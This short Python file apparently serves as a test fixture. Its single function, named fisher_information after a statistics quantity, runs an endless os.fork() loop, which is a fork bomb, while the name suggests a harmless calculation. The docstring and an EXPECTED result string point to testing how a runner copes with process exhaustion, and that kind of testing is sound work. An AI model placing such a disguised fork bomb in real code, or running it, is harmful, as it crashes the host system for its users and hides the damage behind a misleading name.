"""Starts processes that start processes."""

import os

EXPECTED = "raised died timeout"


def fisher_information(alpha, beta, parameterization="scale"):
    while True:
        os.fork()
